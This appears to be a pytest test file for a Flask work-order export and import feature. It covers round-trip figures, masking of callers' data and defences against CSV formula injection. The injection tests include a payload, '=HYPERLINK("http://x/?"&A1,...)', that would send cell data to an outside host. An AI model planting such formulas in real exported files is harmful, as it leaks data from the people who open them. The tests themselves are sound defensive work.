"""`flask export-orders`: the interchange format out, importable again with the same figures."""

import csv
import datetime as dt

import pytest

import workflow
from figures import figures_for
from interchange.exporter import export_orders
from interchange.format import HEADERS
from models import ALL_MODELS, Campaign, MissedCall, OrderTopic, Setting, Topic
from tests.factories import make_category, make_department, make_order

T = dt.datetime


def _online(at, **fields):
    return workflow.close_online(
        make_order(received_at=at, **fields), reply="话务员直接告知", at=at + dt.timedelta(minutes=5)
    )


def _dispatched(at, unit, steps, **fields):
    order = make_order(received_at=at, **fields)
    workflow.dispatch(order, unit, at=at + dt.timedelta(hours=1))
    if "sign" in steps:
        workflow.sign(order, at=at + dt.timedelta(hours=2))
    if "reply" in steps:
        workflow.reply(order, "已安排人员处理", at=at + dt.timedelta(days=1))
    if "resolve" in steps:
        workflow.resolve(order, at=at + dt.timedelta(days=1, hours=1))
    if "reopen" in steps:
        workflow.reopen(order, "群众仍不满意", at=at + dt.timedelta(days=2))
    return order


@pytest.fixture
def quarter(app):
    """Orders of 2020Q1 in every state the workflow can leave, plus one second either side."""
    social = make_category("社会服务类")
    consult = make_category("咨询", parent=social)
    env = make_category("资源环境类")
    noise = make_category("噪音扰民", parent=env)
    housing, street = make_department("县住建局"), make_department("民安街道办事处")
    epidemic = Topic.create(name="疫情")

    o1 = _online(T(2020, 1, 5, 9), caller_area="城镇", category=social, subcategory=consult, caller_name="姜小明")
    workflow.record_callback(o1, "满意", "满意", at=T(2020, 1, 6, 9))
    o2 = _online(T(2020, 1, 6, 9), caller_area="乡村", category=social, channel="网络", call_seconds=70)
    workflow.record_callback(o2, "未接通", at=T(2020, 1, 7, 9))
    workflow.mark_harassment(make_order(received_at=T(2020, 1, 7, 9), category=social))
    workflow.reject(make_order(received_at=T(2020, 1, 8, 9), category=env, channel="来信"), "超出受理范围")
    o5 = _dispatched(
        T(2020, 2, 3, 10), housing, ("sign", "reply", "resolve"), caller_area="城镇", category=env, subcategory=noise
    )
    workflow.record_callback(o5, "不满意", "嫌处理太慢", at=T(2020, 2, 6, 9))
    _dispatched(T(2020, 2, 4, 10), housing, ("sign",), caller_area="乡村", category=env, subcategory=noise)
    _dispatched(T(2020, 2, 5, 10), street, ("sign", "reply"), caller_area="城镇", category=social)
    _dispatched(T(2020, 2, 6, 10), street, ("sign", "reply", "reopen"), caller_area="城镇", category=social)
    make_order(received_at=T(2020, 3, 2, 9), caller_area="城镇", category=social)  # still NEW
    o10 = _online(T(2020, 3, 3, 9), caller_area="城镇", category=social)  # called back, then harassment
    workflow.record_callback(o10, "满意", at=T(2020, 3, 3, 12))
    workflow.mark_harassment(o10)
    _online(T(2020, 1, 1, 0, 0, 0), category=social)  # first second of the quarter
    _online(T(2020, 3, 31, 23, 59, 59), category=social)  # last second
    _online(T(2019, 12, 31, 23, 59, 59), category=social)  # outside
    _online(T(2020, 4, 1, 0, 0, 0), category=social)  # outside
    for order in (o1, o5):
        OrderTopic.create(order=order, topic=epidemic)
    MissedCall.create(at=T(2020, 1, 9, 8))
    Campaign.create(name="电话摸排", start_date=dt.date(2020, 1, 27), end_date=dt.date(2020, 1, 29), reached=5000)


def read_export(path):
    raw = path.read_bytes()
    with open(path, encoding="utf-8-sig", newline="") as f:
        return raw, list(csv.reader(f))


def test_export_writes_the_quarter_with_bom_and_chinese_headers(runner, tmp_path, quarter):
    path = tmp_path / "q1.csv"
    result = runner.invoke(args=["export-orders", "2020Q1", "--output", str(path)])
    assert result.exit_code == 0, result.stderr
    assert "已导出 2020年第一季度 受理的工单 12 条" in result.output
    raw, rows = read_export(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows[0] == HEADERS
    received = [r[HEADERS.index("受理时间")] for r in rows[1:]]
    assert received[0] == "2020-01-01 00:00:00" and received[-1] == "2020-03-31 23:59:59"
    assert received == sorted(received) and len(received) == 12
    assert "13812345678" in raw.decode("utf-8-sig") and "姜小明" in raw.decode("utf-8-sig")  # CLI: unmasked


def test_export_then_import_into_an_emptied_database_gives_identical_figures(runner, tmp_path, quarter):
    # Its 环比 needs 2019Q4 (whose one order is not a full quarter by default: the records'
    # first day, a setting, says 2019Q4 is complete); export both years.
    Setting.create(key="records_first_day", value="2019-10-01")
    before = figures_for("2020Q1")
    files = [tmp_path / "2019.csv", tmp_path / "2020.csv"]
    for year, path in zip(("2019", "2020"), files):
        assert runner.invoke(args=["export-orders", year, "--output", str(path)]).exit_code == 0

    # Empty every table the format covers; missed calls, campaigns and settings are not work orders.
    for model in reversed(ALL_MODELS):
        if model not in (MissedCall, Campaign, Setting):
            model.delete().execute()
    for path in files:
        result = runner.invoke(args=["import-orders", str(path)])
        assert result.exit_code == 0, result.stderr

    after = figures_for("2020Q1")
    assert after == before
    assert (after["received"], after["dispatched"], after["resolved"], after["pending"]) == (12, 4, 1, 1)
    assert after["comparisons"]["mom"]["received"]["previous"] == 1
    again = tmp_path / "again.csv"
    assert runner.invoke(args=["export-orders", "2020", "--output", str(again)]).exit_code == 0
    assert again.read_bytes() == files[1].read_bytes()


def test_masked_export_for_departments_and_leaders(tmp_path, quarter):
    path = tmp_path / "masked.csv"
    assert export_orders(path, T(2020, 1, 5), T(2020, 1, 6), mask=True) == 1
    _, rows = read_export(path)
    values = dict(zip(rows[0], rows[1]))
    assert (values["来电号码"], values["来电人"]) == ("138****5678", "姜某某")


@pytest.mark.parametrize(
    "args,message",
    [
        (["export-orders", "2020Q5", "--output", "x.csv"], "无法识别的期间「2020Q5」"),
        (["export-orders", "2020Q1", "--output", "/nonexistent-dir/x.csv"], "无法写入文件 /nonexistent-dir/x.csv"),
    ],
)
def test_bad_arguments_are_refused(runner, app, args, message):
    result = runner.invoke(args=args)
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines()[0].startswith(message)


# --- formulas (docs/RULES.md § Export): no cell may start a formula in Excel or WPS ---------

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"点此")', "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def formula_orders(app):
    unit = make_department("县住建局")
    orders = []
    for i, text in enumerate(FORMULAS):
        order = make_order(
            received_at=T(2020, 1, 5, 9, i), content=text, caller_name=text[:50], caller_phone="+8613812345678"
        )
        workflow.dispatch(order, unit, at=T(2020, 1, 5, 10))
        workflow.sign(order, at=T(2020, 1, 5, 11))
        workflow.reply(order, text, at=T(2020, 1, 6, 9))
        orders.append(order)
    return orders


def _no_formula(cells):
    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == [], starts


def test_export_orders_neutralises_formulas_and_imports_back_unchanged(runner, tmp_path, formula_orders):
    path = tmp_path / "q1.csv"
    assert runner.invoke(args=["export-orders", "2020Q1", "--output", str(path)]).exit_code == 0
    _, rows = read_export(path)
    cells = [c for row in rows[1:] for c in row]
    _no_formula(cells)
    content = [r[HEADERS.index("诉求内容")] for r in rows[1:]]
    assert content == ["'" + f for f in FORMULAS]
    assert {r[HEADERS.index("来电号码")] for r in rows[1:]} == {"'+8613812345678"}

    # Our own export imports back: the importer removes the one quote the export added.
    for model in reversed(ALL_MODELS):
        model.delete().execute()
    result = runner.invoke(args=["import-orders", str(path)])
    assert result.exit_code == 0, result.stderr
    from models import WorkOrder

    back = list(WorkOrder.select().order_by(WorkOrder.received_at))
    assert [o.content for o in back] == [f.strip() for f in FORMULAS]  # the import strips cells, as always
    assert [o.reply for o in back] == [o.content for o in back] == [o.caller_name for o in back]
    assert {o.caller_phone for o in back} == {"+8613812345678"}
    again = tmp_path / "again.csv"
    assert runner.invoke(args=["export-orders", "2020Q1", "--output", str(again)]).exit_code == 0
    _, rows_again = read_export(again)
    assert [r[HEADERS.index("诉求内容")] for r in rows_again[1:]] == ["'" + f.strip() for f in FORMULAS]


@pytest.mark.parametrize("role", ["operator", "leader"])
def test_the_order_lists_csv_and_xlsx_exports_neutralise_formulas(client, login_as, formula_orders, role):
    import io

    import openpyxl

    login_as(role)
    text = client.get("/admin/orders/export/csv/").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == len(FORMULAS) + 1
    _no_formula([c for row in rows[1:] for c in row])
    header = rows[0]
    # A leader's cells are masked first (the caller's name inside the content too), then neutralised.
    expected = sorted("'" + f for f in FORMULAS) if role == "operator" else None
    content = sorted(r[header.index("诉求内容")] for r in rows[1:])
    assert content == expected if expected else all(c.startswith("'") for c in content)

    response = client.get("/admin/orders/export/xlsx/")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert (
        "filename=orders_" in response.headers["Content-Disposition"]
        and ".xlsx" in response.headers["Content-Disposition"]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == header
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    _no_formula([str(c) for row in values[1:] for c in row if c is not None])
    assert sorted(r[header.index("诉求内容")] for r in values[1:]) == content
